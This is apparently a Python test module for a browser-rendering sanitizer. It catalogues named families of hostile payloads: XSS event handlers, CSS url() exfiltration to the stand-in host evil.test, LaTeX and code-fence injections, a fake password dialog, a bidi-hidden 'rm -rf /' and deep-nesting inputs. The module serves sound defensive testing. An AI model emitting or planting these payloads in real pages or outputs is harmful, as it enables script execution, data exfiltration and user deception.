"""More of what a hostile page may make a model or a tool say, each with a name.

Beside the texts of hostile_payloads: what takes over a page, styles, ways out of an
attribute, formulas, languages of code, hidden characters, great depth.
"""

from tests.browser import hostile_payloads

_EVIL = "http://evil.test"

_FAMILIES: dict[str, tuple[str, ...]] = {
    "event": (
        "<IMG SRC=x ONERROR=alert(1)>",
        "<img src=x onerror\n=\nalert(1)>",
        "<img\fsrc=x\fonerror=alert(1)>",
        "<img/src=x/onerror=alert(1)>",
        "<img src=x onerror=&#97;lert&lpar;1&rpar;>",
        "<img src=x on\0error=alert(1)><scr\0ipt>alert(1)</scr\0ipt>",
        "<b popover=auto id=p onbeforetoggle=alert(1)>x</b>",
        "<b style='animation:arn-spin 1s' onanimationstart=alert(1)>x</b>",
        (
            "<p style='content-visibility:auto' "
            "oncontentvisibilityautostatechange=alert(1)>x</p>"
        ),
        '"><img src=x onerror=alert(1)>',
        "'><svg onload=alert(1)>",
        '" autofocus onfocus=alert(1) x="',
        "</code></pre><img src=x onerror=alert(1)>",
        '[x](http://evil.test "onmouseover=alert(1) x=")',
        '![x" onerror="alert(1)](http://evil.test/a)',
        'http://evil.test/"onmouseover="alert(1)',
        "{: onclick=alert(1)}\n[x](http://evil.test){: onclick=alert(1)}",
    ),
    "page": (
        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
        "<base target=_top><a href=http://evil.test/top>x</a>",
        "<form id=f></form><button form=f formaction=http://evil.test>x</button>",
        "<input type=password name=password autocomplete=on>",
        "<map name=m><area shape=default href=javascript:alert(1)></map>",
        "<dialog open>Your kernel died. Enter your password:<input></dialog>",
        "<button popovertarget=p>x</button><div popover id=p>x</div>",
        "<form id=x><input name=attributes><input name=parentNode></form>",
        "<img name=body><img name=cookie><img name=getElementById>",
        "<a id=window><a id=window name=alert href=javascript:alert(1)>x</a>",
        "<p id=__proto__ class=arn-hidden is=x-x slot=x part=x accesskey=x>x</p>",
        "<link rel=modulepreload href=http://evil.test/m><link rel=icon href=/icon>",
        "<link rel=preconnect href=http://evil.test><link rel=manifest href=/m>",
        "<script type=importmap>{}</script><script type=speculationrules>{}</script>",
        "<img src=/relative><script src=relative.js></script><img src=//evil.test/p>",
        "![x](x) ![x](/api/kernels) ![x](../files/secret) [x](/user/settings)",
        "<math href=javascript:alert(1)>x</math><math><mi xlink:href=//evil.test>x",
        "<svg><image xlink:href=http://evil.test/i /><feImage href=http://evil.test/f>",
        "<image src=x onerror=alert(1)><portal src=http://evil.test></portal>",
        "<plaintext><img src=x onerror=alert(1)>",
        "<img src='http://evil.test/dangling?",
        "</div></div></div></section></article><script>alert(1)</script>",
    ),
    "style": (
        f"<style>input[value^=a]{{background:url({_EVIL}/a)}}</style>",
        f"<style>@font-face{{font-family:x;src:url({_EVIL}/f)}}*{{font-family:x}}",
        "<style>*{display:none!important}</style>",
        f"<p style='background-image:image-set(\"{_EVIL}/set\" 1x)'>x</p>",
        f"<p style='list-style:url({_EVIL}/list);display:list-item'>x</p>",
        f"<p style='border-image:url({_EVIL}/border) 1;border:1px solid'>x</p>",
        f"<p style='cursor:url({_EVIL}/c),auto;mask:url({_EVIL}/m)'>x</p>",
        f"<p style='--x:url({_EVIL}/variable);background:var(--x)'>x</p>",
        f"<p style='back\\67round:u\\72l({_EVIL}/escaped)'>x</p>",
        "<p style='width:expression(alert(1));behavior:url(x)'>x</p>",
        "<div style='position:absolute;top:-99px;left:-99px;width:9999px'>x</div>",
        "<div style='margin:-999px;transform:scale(99)'>x</div>",
        "<table style='position:fixed;inset:0;z-index:9999'><tr><td>x</table>",
        "<svg style='position:fixed;inset:0;width:9999px;height:9999px'></svg>",
        "<p class='arn-chat jp-Dialog' id=main>x</p>",
        f"<table background={_EVIL}/t><tr><td background={_EVIL}/c>x</table>",
    ),
    "formula": tuple(
        form.format(source)
        for source in (
            r"\href{data:text/html,<script>alert(1)</script>}{x}",
            r"\href{http://evil.test/href}{x} \url{http://evil.test/url}",
            r"\includegraphics[width=9999em]{http://evil.test/graphics}",
            r"\htmlStyle{position:fixed;inset:0}{x}",
            r"\htmlClass{jp-Dialog}{x} \htmlId{main}{x}",
            r"\class{arn-hidden}{x} \cssId{main}{x} \style{position:fixed}{x}",
            r"\id{main}{x} \data{onclick=alert(1)}{x}",
            r"\unicode{<img src=x onerror=alert(1)>}",
            r"\text{</mtext></math><script>alert(1)</script>}",
            r"\tag{<script>alert(1)</script>} x \label{main} \ref{main}",
            r"\color{url(http://evil.test/colour)} x",
            r"\textcolor{red;background:url(http://evil.test/c)}{x}",
            r"\colorbox{red' onclick='alert(1)}{x}",
            r"\rule{99999em}{99999em}",
            r"\hspace{-9999em} \raisebox{9999em}{x} \kern-9999em x",
            r"\newcommand{\x}[1]{#1#1#1#1}\x{\x{\x{\x{\x{\x{x}}}}}}",
            r"\begin{array}{<img src=x onerror=alert(1)>} x \end{array}",
            r"\operatorname{<svg onload=alert(1)>}",
        )
        for form in ("$${}$$", "a \\({}\\) b")
    ),
    "language": tuple(
        f"```{language}\n<b onclick=1>x</b></code><script>alert(1)</script>\n```\nend"
        for language in (
            '"><img src=x onerror=alert(1)>',
            "html<script>alert(1)</script>",
            "html",
            "javascript:alert(1)",
            "python onclick=alert(1)",
            "{=html}",
            "{python, class='x' onclick='alert(1)'}",
            "__proto__",
            "constructor",
            "svg",
            "mermaid",
            "x" * 500,
            "\u202ehtml\u200b",
        )
    ),
    "characters": (
        "\u2066rm -rf /\u2069 \u2067safe\u2069 \u202dls\u202c",
        "<scr\u200bipt>alert(1)</scr\u200bipt>",
        "<img\u00a0src=x\u00a0onerror=alert(1)>",
        "<img\u2028src=x\u2029onerror=alert(1)>",
        "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "\u001b]8;;javascript:alert(1)\u0007x\u001b]8;;\u0007",
        "\U000e0041\U000e0042<svg onload=alert(1)>",
        "e" + "\u0301" * 500,
        "[\u202etxet](http://evil.test/\u202egnp.exe)",
        "[x](java\u200bscript:alert(1)) [x](javascript\uff1aalert(1))",
        "[x](http://bank.test@evil.test/) [x](\\\\evil.test\\x)",
    ),
    "depth": (
        "".join("  " * i + "- x\n" for i in range(80)) + "<svg onload=alert(1)>",
        "![" * 200 + "x" + "](http://evil.test/deep)" * 50,
        "`" * 999 + "<script>alert(1)</script>",
        "<div>" * 200 + "<img src=x onerror=alert(1)>" + "</div>" * 200,
        "<table><tr><td>" * 12 + "<img src=x onerror=alert(1)>",
        "<svg><desc>" * 100 + "<img src=x onerror=alert(1)>",
        "<math><mtext>" * 100 + "<img src=x onerror=alert(1)>",
        "$$" + "{" * 300 + "x" + "}" * 300 + "$$",
        "$$" + r"\sqrt{" * 100 + "x" + "}" * 100 + "$$",
        "[" * 900 + "]" * 900,
    ),
}

PAYLOADS = {
    f"{family} {number}": text
    for family, texts in [*_FAMILIES.items(), ("other", hostile_payloads.PAYLOADS)]
    for number, text in enumerate(texts, 1)
}
"""Each payload by its name."""
